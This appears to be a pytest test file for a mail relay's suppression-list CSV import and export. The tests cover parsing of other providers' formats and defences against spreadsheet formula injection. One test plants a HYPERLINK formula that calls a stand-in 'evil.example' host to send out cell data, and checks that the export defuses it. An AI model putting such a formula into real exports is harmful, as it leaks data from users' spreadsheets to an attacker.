"""Suppressions as CSV: our own export and import, exports of other senders, and what a spreadsheet must not run."""

import csv
import io
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relay import suppression_reason
from relay.store.recipients import suppression_csv, suppressions
from relay.store.recipients.suppression_csv import ImportDefaults, InvalidRecord
from relay.store.recipients.suppressions import SuppressionEntry
from relay.store.store import Store
from tests.message_factory import NOW
from tests.waypost_server import Waypost

DEFAULTS = ImportDefaults(NOW)


def entry(mailbox: str, **more: Any) -> SuppressionEntry:
    return SuppressionEntry(mailbox, "all", "", "manual", "", NOW, None)._replace(**more)


def test_what_is_exported_can_be_imported_elsewhere(relay: Waypost, tmp_path: Path) -> None:
    other = Waypost(tmp_path / "other")
    given_csv = (
        "address,scope,stream,reason,evidence,created_at,expires_at\n"
        'Lists@Example.com,all,,hard_bounce,"550 5.1.1 no such user\nsecond ""line""",2026-01-02T03:04:05Z,\n'
        "lists2@example.com,stream,news,unsubscribe,,2026-01-02T03:04:05Z,2099-01-01T00:00:00Z\n"
    )
    said = relay.cli("suppressions", "import", "-", stdin=given_csv.encode())
    assert said == b"added 2, known 0, refused 0\n"
    assert relay.cli("suppressions", "import", "-", stdin=given_csv.encode()) == b"added 0, known 2, refused 0\n"
    path = tmp_path / "out.csv"
    relay.cli("suppressions", "export", str(path))
    assert path.stat().st_mode & 0o777 == 0o600
    rows = [row for row in csv.DictReader(io.StringIO(path.read_text())) if row["address"].startswith("lists")]
    assert rows == list(csv.DictReader(io.StringIO(given_csv.replace("Lists@Example", "lists@example"))))
    other.cli("suppressions", "import", str(path))
    assert other.cli("suppressions", "export") == path.read_bytes()
    [shown] = relay.rows("suppressions", "list", "lists2@")
    assert (shown["scope"], shown["stream"], shown["expires_at"]) == ("stream", "news", "2099-01-01T00:00:00Z")


def test_bad_lines_are_named_and_the_others_taken(relay: Waypost) -> None:
    lines = [
        b"good1@bad.example",
        b"no address here",
        b"",
        b"good2@bad.example;and more",
        b"gr\xfcn@bad.example",
        b"a b@bad.example",
        b"good3@bad.example",
    ]
    said = relay.cli("suppressions", "import", "-", stdin=b"\xef\xbb\xbf" + b"\r\n".join(lines), status=1).decode()
    assert [line.partition(":")[0] for line in said.splitlines()] == ["line 2", "line 4", "line 5", "line 6"]
    taken = [row["address"] for row in relay.rows("suppressions", "list", "@bad.example")]
    assert sorted(taken) == ["good1@bad.example", "good3@bad.example"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "status,reason,email,created\n5.1.1,550 5.1.1 The email account does not exist,dead@example.com,1443651125",
            ("all", "hard_bounce", "550 5.1.1 The email account does not exist", "2015-09-30T22:12:05"),
        ),
        (
            '"address","code","error","created_at"\n'
            '"dead@example.com","550","No such mailbox","Fri, 21 Oct 2011 11:02:55 UTC"\n',
            ("all", "manual", "No such mailbox", "2011-10-21T11:02:55"),
        ),
        (
            "EmailAddress,SuppressionReason,Origin,CreatedAt\ndead@example.com,SpamComplaint,Recipient,2019-12-10T08:58:33-05:00\n",
            ("all", "complaint", "", "2019-12-10T13:58:33"),
        ),
        (
            "Email address\tReason\tLast update time\ndead@example.com\tBOUNCE\t2020-04-10T21:03:05.000000-04:00\n",
            ("all", "hard_bounce", "", "2020-04-11T01:03:05"),
        ),
        (
            "recipient,type,source,description\ndead@example.com,non_transactional,List Unsubscribe,left\n",
            ("all", "manual", "left", NOW.isoformat()[:19]),
        ),
    ],
)
def test_exports_of_other_senders_are_understood(text: str, expected: tuple[str, ...]) -> None:
    [found] = suppression_csv.read_csv(io.StringIO(text), DEFAULTS)
    assert isinstance(found, SuppressionEntry) and found.address == "dead@example.com"
    assert (found.scope, found.reason, found.evidence, found.created_at.isoformat()[:19]) == expected


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_the_line_that_names_excels_separator_is_no_record(relay: Waypost, separator: str, encoding: str) -> None:
    who = f"excel{ord(separator)}-{encoding}@example.net"
    rows = (f"sep={separator}", separator.join(("email", "reason")), separator.join((who, "hard_bounce")))
    said = relay.cli("suppressions", "import", "-", stdin="".join(f"{row}\r\n" for row in rows).encode(encoding))
    assert said == b"added 1, known 0, refused 0\n"
    [row] = relay.rows("suppressions", "list", who)
    assert (row["address"], row["reason"]) == (who, "hard_bounce")


def test_a_separator_may_be_named_without_columns() -> None:
    [found] = suppression_csv.read_csv(io.StringIO("\ufeffsep=;\nann@example.com;\n"), DEFAULTS)
    assert isinstance(found, SuppressionEntry) and found.address == "ann@example.com"


@pytest.mark.parametrize("line", ["ann@example.com,news", "ann@example.com;;news", "ann@example.com\thard_bounce"])
def test_columns_without_names_are_refused_and_not_guessed(line: str) -> None:
    [found] = suppression_csv.read_csv(io.StringIO(line), DEFAULTS)
    assert isinstance(found, InvalidRecord) and "the first line must name them" in found.why
    [named] = suppression_csv.read_csv(io.StringIO("address,stream\nann@example.com,news"), DEFAULTS)
    assert isinstance(named, SuppressionEntry) and (named.scope, named.stream) == ("stream", "news")


def test_addresses_in_brackets_are_taken() -> None:
    text = 'email\n<ann@example.net>\n"""Ann A"" <ben@example.net>"\nAnn <>\nAnn <a@example.net> <b@example.net>\n'
    found = list(suppression_csv.read_csv(io.StringIO(text), DEFAULTS))
    assert [one.address for one in found if isinstance(one, SuppressionEntry)] == ["ann@example.net", "ben@example.net"]
    assert [one.line for one in found if isinstance(one, InvalidRecord)] == [4, 5]


_FORMULAS = ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "x;=1", "x\n=1", "x\r@1", "'=1", "''-1")


def test_no_cell_of_an_export_is_a_formula(relay: Waypost) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"ann@example.com")'
    relay.cli("suppressions", "add", "+formula@cells.example", "--evidence", formula)
    exported = relay.cli("suppressions", "export").decode()
    [row] = [row for row in csv.DictReader(io.StringIO(exported)) if "formula@" in row["address"]]
    assert (row["address"], row["evidence"]) == ("'+formula@cells.example", f"'{formula}")
    relay.cli("suppressions", "remove", "+formula@cells.example")
    relay.cli("suppressions", "import", "-", stdin=exported.encode())
    [again] = relay.rows("suppressions", "list", "formula@cells.example")
    assert (again["address"], again["evidence"]) == ("+formula@cells.example", formula)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@settings(max_examples=300)
@given(st.lists(st.sampled_from((*_FORMULAS, "x", ";", ",", '"', "'", " ")), max_size=6).map("".join))
def test_with_any_separator_no_cell_begins_a_formula(delimiter: str, evidence: str) -> None:
    text = suppression_csv.write_csv([entry("ann@example.com", evidence=evidence)], header=False)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_quote_that_is_never_closed_swallows_nothing() -> None:
    text = "address\n" + '"open@example.com\n' + "".join(f"{n}@example.com\n" for n in range(200))
    found = list(suppression_csv.read_csv(io.StringIO(text), DEFAULTS))
    assert sum(isinstance(one, SuppressionEntry) for one in found) >= 200


def test_an_expiry_that_cannot_be_read_is_refused_and_not_guessed() -> None:
    text = "email,expires_at\na@example.com,soon\nb@example.com,2027-01-31\n"
    refusal, kept = suppression_csv.read_csv(io.StringIO(text), DEFAULTS)
    assert isinstance(refusal, InvalidRecord) and refusal.line == 2 and "soon" in refusal.why
    assert isinstance(kept, SuppressionEntry) and kept.expires_at == datetime(2027, 1, 31, tzinfo=UTC)


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\r")))
def test_any_text_has_an_answer_for_each_record(text: str) -> None:
    for one in suppression_csv.read_csv(io.StringIO(text), DEFAULTS):
        assert isinstance(one, SuppressionEntry | InvalidRecord)


_STREAMS = st.tuples(st.just("all"), st.just("")) | st.tuples(st.just("stream"), st.sampled_from(["", "news"]))
_TIMES = st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC))


@given(
    _STREAMS,
    st.sampled_from(suppression_reason.REASONS),
    st.text(st.characters(codec="utf-8")) | st.text("';=+-@\t\n x\""),
    _TIMES,
    st.none() | _TIMES,
)
def test_an_entry_that_is_written_is_read_as_it_was(
    where: tuple[str, str], reason: str, evidence: str, created_at: datetime, expires_at: datetime | None
) -> None:
    evidence = evidence.replace("\0", "").replace("\r", "").strip()
    one = SuppressionEntry("ann@example.com", *where, reason, evidence, created_at, expires_at)
    assert list(suppression_csv.read_csv(io.StringIO(suppression_csv.write_csv([one], header=True)), DEFAULTS)) == [one]


@cache
def _hundred_thousand() -> list[SuppressionEntry]:
    lines = (f"{n}@example.com\n" for n in range(100_000))
    return [one for one in suppression_csv.read_csv(lines, DEFAULTS) if isinstance(one, SuppressionEntry)]


def test_a_hundred_thousand_addresses_go_in_at_once(opened: Store) -> None:
    read = _hundred_thousand()
    assert (
        opened.writer.submit(lambda connection: suppressions.add_suppressions(connection, read)).result(300) == 100_000
    )
    with opened.connect() as connection:
        page, last = suppressions.list_entries(connection, NOW, 0, 10)
    assert [one.address for one in page] == [f"{n}@example.com" for n in range(10)] and last == 10
